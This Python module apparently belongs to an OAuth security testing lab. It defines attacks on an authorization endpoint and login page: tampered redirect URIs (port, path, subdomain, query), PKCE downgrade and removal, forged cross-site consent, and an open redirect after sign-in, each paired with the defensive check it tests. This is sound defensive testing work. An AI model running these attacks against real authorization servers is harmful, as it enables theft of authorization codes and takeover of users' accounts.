"""Attacks on the authorization endpoint and the login page (RFC 6749 §4.1.1, §10.13, §10.15)."""

from functools import partial
from http import HTTPStatus
from urllib.parse import unquote, urlsplit

from inspector.lab.actors import LURED, AuthorizationRequest
from inspector.lab.attack import Attack, Group
from inspector.lab.http import Answer, Form
from inspector.lab.outcome import CannotRun, Outcome
from inspector.lab.stage import EVERY_SCOPE, MALLORYS_SITE, Stage


def _follow_link(stage: Stage, request: AuthorizationRequest, site: str) -> Outcome:
    """Make Carol follow a link of Mallory's.

    The attack succeeds if the consent page appears, or if a code is issued without it.
    """
    answer = stage.carol.visit(request.url, until=site, **LURED)
    is_asked = answer.page.form_with("decision") is not None
    has_succeeded = is_asked or "code" in answer.redirect_parameters
    return answer.outcome(has_succeeded=has_succeeded, consequence=_describe_redirect(answer))


def _describe_redirect(answer: Answer) -> str:
    if answer.page.form_with("decision"):
        return "Carol is asked for consent, without any warning."
    if not answer.location:
        return "Carol’s browser is not redirected, and no code is issued."
    if "code" in answer.redirect_parameters:
        return "Carol’s browser is redirected with a code."
    if "error" in answer.redirect_parameters:
        return "The client receives the error, and no code."
    return ""


def _replace_redirect_uri(stage: Stage, redirect_uri: str) -> Outcome:
    request = stage.print_shop.authorization_request("photos:read", redirect_uri=redirect_uri)
    return _follow_link(stage, request, redirect_uri)


def use_another_port(stage: Stage) -> Outcome:
    """Replace the port of the registered URI by the port of Mallory's program."""
    parts = urlsplit(stage.print_shop.redirect_uri)
    return _replace_redirect_uri(stage, f"http://{parts.hostname}:6666{parts.path}")


def append_a_path(stage: Stage) -> Outcome:
    """Append a path to the registered URI."""
    return _replace_redirect_uri(stage, f"{stage.print_shop.redirect_uri}/../mallory")


def use_a_subdomain(stage: Stage) -> Outcome:
    """Use a host of Mallory's that begins with the registered host."""
    parts = urlsplit(stage.print_shop.redirect_uri)
    host = f"{parts.netloc.replace(':', '-')}.mallory.example"
    return _replace_redirect_uri(stage, f"http://{host}{parts.path}")


def append_a_parameter(stage: Stage) -> Outcome:
    """Append a query that is not registered to the registered URI."""
    return _replace_redirect_uri(stage, f"{stage.print_shop.redirect_uri}?next={MALLORYS_SITE}")


def use_plain_pkce(stage: Stage) -> Outcome:
    """Use the method "plain", whose challenge is the verifier itself."""
    request = stage.print_shop.authorization_request(
        "photos:read", code_challenge="m" * 43, code_challenge_method="plain"
    )
    return _follow_link(stage, request, stage.print_shop.redirect_uri)


def omit_pkce(stage: Stage) -> Outcome:
    """Remove the challenge from the request."""
    request = stage.print_shop.authorization_request(
        "photos:read", code_challenge=None, code_challenge_method=None
    )
    return _follow_link(stage, request, stage.print_shop.redirect_uri)


def forge_consent(stage: Stage) -> Outcome:
    """Send the consent form for Mallory's app from another site in Carol's browser."""
    app = stage.mallorys_app
    request = app.authorization_request(EVERY_SCOPE)
    if stage.carol.visit(request.url).page.form_with("decision") is None:
        raise CannotRun("Carol was not asked for consent.")
    stage.carol.has_consented = True
    scopes = [("granted_scope", scope) for scope in EVERY_SCOPE.split()]
    fields = [("asked_scope", EVERY_SCOPE), *scopes, ("decision", "allow")]
    headers = LURED | {"Origin": MALLORYS_SITE, "Referer": f"{MALLORYS_SITE}/"}
    answer = stage.carol.browser.sender.send("POST", request.url, data=fields, headers=headers)
    has_code = "code" in answer.redirect_parameters
    consequences = [_describe_account(stage, app.client_id)]
    if has_code:
        consequences.insert(0, "Mallory’s app receives a code.")
    return answer.outcome(has_succeeded=has_code, consequence=" ".join(consequences).strip())


def _describe_account(stage: Stage, client_id: str) -> str:
    """Return whether Carol's account page lists the app, or "" without such a page."""
    answer = stage.carol.visit(f"{stage.addresses.authorization_server}/account/apps")
    if answer.status != HTTPStatus.OK:
        return ""
    if any(("client_id", client_id) in form.buttons for form in answer.page.forms):
        return "Carol’s account page lists Mallory’s app."
    return "Carol’s account page does not list Mallory’s app."


def redirect_after_sign_in(stage: Stage) -> Outcome:
    """Make Carol sign in by a link that names Mallory's page as the next page."""
    server = stage.addresses.authorization_server
    next_page = f"//{urlsplit(MALLORYS_SITE).netloc}/login"
    browser = stage.browser()
    login = browser.open(f"{server}/login?next={next_page}", **LURED)
    form = login.page.form_with("password")
    if form is None:
        raise CannotRun("The login page has no form.")
    answer = stage.carol.sign_in(login, until=server, browser=browser)
    if not answer.location:
        raise CannotRun(f"Carol could not sign in: {answer.status}.")
    host = urlsplit(answer.location).netloc
    if host != urlsplit(server).netloc:
        consequence = f"Carol is signed in and redirected to {host}."
        return answer.outcome(has_succeeded=True, consequence=consequence)
    consequence = "Carol is signed in and stays on this server."
    if not _is_sent(form, login, next_page):
        consequence = f"The login form does not contain the link’s next page. {consequence}"
    return answer.outcome(has_succeeded=False, consequence=consequence)


def _is_sent(form: Form, page: Answer, value: str) -> bool:
    """Return whether the form of `page` sends `value`, in a field or in its address."""
    if value in unquote(form.action or page.url):
        return True
    return any(value in sent for _, sent in form.fields)


#: What these attacks have in common, unless an entry says otherwise.
attack = partial(
    Attack, aim="GET /oauth/authorize", leg="auth", plain="authlib", uses_carols_browser=True
)

ATTACKS = (
    attack(
        slug="redirect-uri-port",
        title="Change the redirect URI: another port",
        group=Group.REDIRECTS,
        severity="medium",
        description="Mallory’s program listens on a port of Carol’s machine. "
        "Mallory’s link makes the authorization server send the code to that port.",
        run=use_another_port,
        check="exact-redirect-uri",
    ),
    attack(
        slug="redirect-uri-prefix",
        title="Change the redirect URI: a longer path",
        group=Group.REDIRECTS,
        severity="medium",
        description="Mallory appends a path to the registered URI. "
        "A server that compares only the beginning would accept it.",
        run=append_a_path,
        check="exact-redirect-uri",
    ),
    attack(
        slug="redirect-uri-subdomain",
        title="Change the redirect URI: a subdomain",
        group=Group.REDIRECTS,
        severity="high",
        description="Mallory’s domain begins with the registered host. "
        "A server that searches the host name for the registered one would accept it.",
        run=use_a_subdomain,
        check="exact-redirect-uri",
    ),
    attack(
        slug="redirect-uri-parameter",
        title="Change the redirect URI: an extra parameter",
        group=Group.REDIRECTS,
        severity="medium",
        description="Mallory appends a query to the registered URI. "
        "A client that redirects to the address in the query would pass the code on.",
        run=append_a_parameter,
        check="exact-redirect-uri",
    ),
    attack(
        slug="pkce-plain",
        title="Downgrade PKCE to plain",
        group=Group.FRONT_CHANNEL,
        severity="medium",
        description="Mallory changes the authorization request. "
        "The challenge is now a verifier that Mallory knows.",
        run=use_plain_pkce,
        check="s256-required",
    ),
    attack(
        slug="pkce-none",
        title="Leave PKCE out",
        group=Group.FRONT_CHANNEL,
        severity="medium",
        description="Mallory removes the challenge from the authorization request, "
        "so that the code can be redeemed without a verifier.",
        run=omit_pkce,
        check="s256-required",
    ),
    attack(
        slug="forged-consent",
        title="Forge the consent from another site",
        group=Group.SESSIONS,
        severity="high",
        aim="POST /oauth/authorize",
        description="Mallory’s site makes Carol’s browser send the consent form for Mallory’s app. "
        "SameSite would hold back Carol’s cookie, but the lab sends it, to test the next check.",
        run=forge_consent,
        check="form-token",
        plain="view",
    ),
    attack(
        slug="open-redirect",
        title="Redirect to another site after sign-in",
        group=Group.REDIRECTS,
        severity="medium",
        aim="POST /login",
        description="Mallory’s link opens the real login page. "
        "After the sign-in, it redirects to a copy that asks for the password again.",
        run=redirect_after_sign_in,
        check="own-pages-only",
        plain="view",
    ),
)
